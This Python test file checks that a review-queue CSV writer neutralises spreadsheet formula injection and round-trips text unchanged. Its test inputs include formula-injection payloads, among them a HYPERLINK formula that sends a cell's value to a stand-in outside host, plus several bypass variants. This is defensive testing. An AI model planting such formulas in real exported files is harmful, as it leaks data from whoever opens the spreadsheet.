"""The review queue in a spreadsheet: nothing in it is computed, and everything comes back as it was."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lyo_pipelines.curation.review import Review, parse_queue, queue_path, read_queue, write_queue
from lyo_pipelines.storage.lake import Lake

FORMULA = [
    "=1+1",
    "+91 99",
    "-2",
    "@SUM(A1)",
    '=HYPERLINK("http://far.example/?"&B2)',
    " =1",
    "\t=1",
    "\r=1",
    "'=1",
    "''=1",
    "＝1",
]


def cells(lake: Lake) -> list[list[str]]:
    return list(csv.reader(io.StringIO(lake.read_text(queue_path(lake)).removeprefix("\ufeff"), newline="")))[1:]


@pytest.mark.parametrize("text", FORMULA)
def test_no_cell_begins_like_a_formula(tmp_path, text):
    lake = Lake(str(tmp_path))
    line = Review("i1", "2026-11-20", "tutoring.en", "stereotype", text, note=text, phrase=text)
    write_queue(lake, [line])
    assert not any(
        cell.lstrip()[:1] in ("=", "+", "-", "@", "＝") or cell[:1] in ("\t", "\r") for cell in cells(lake)[0]
    )
    assert read_queue(lake) == [line]


TEXT = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\0"), max_size=12) | st.sampled_from(
    FORMULA
)


@given(TEXT, TEXT)
def test_every_text_comes_back_as_it_was(tmp_path_factory, excerpt, note):
    lake = Lake(str(tmp_path_factory.mktemp("review")))
    line = Review("i1", "2026-11-20", "tutoring.en", "stereotype", excerpt, note=note)
    write_queue(lake, [line])
    assert read_queue(lake) == [line]


def test_what_a_person_types_as_a_formula_is_read_as_it_stands():
    text = "interaction_id,day,finding,decision,note\ni1,2026-11-20,stereotype,keep,=fine\ni2,2026-11-20,stereotype,drop,'=not\n"
    assert [line.note for line in parse_queue(text)] == ["=fine", "=not"]
